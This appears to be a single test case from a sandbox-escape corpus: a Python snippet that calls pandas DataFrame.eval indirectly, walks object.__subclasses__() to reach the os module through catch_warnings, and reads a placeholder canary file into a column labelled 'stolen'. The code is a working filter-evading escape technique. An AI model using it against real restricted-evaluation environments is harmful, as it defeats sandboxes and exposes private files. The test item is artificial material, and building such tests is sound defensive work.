# class: subclass_walk
# technique: object.__subclasses__() in expression text, then catch_warnings to a process or os (DataFrame.eval reached as (frame.agg if len(frame) else None)('eval', ...))
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})

def ev(expr, **names):
    return (frame.agg if len(frame) else None)("eval", 0, expr, local_dict=names)

u = "_" * 2
classes = ev("@o[0]." + u + "subclasses" + u + "()", o=[object])

cls = [c for c in classes if "catch_warnings" in str(c)][0]
osv = ev("@c[0]." + u + "init" + u + "." + u + "globals" + u + "['sys'].modules['os']", c=[cls])
df = pd.DataFrame({"stolen": [osv.read(osv.open("{{CANARY_FILE}}", 0), 65536).decode()]})
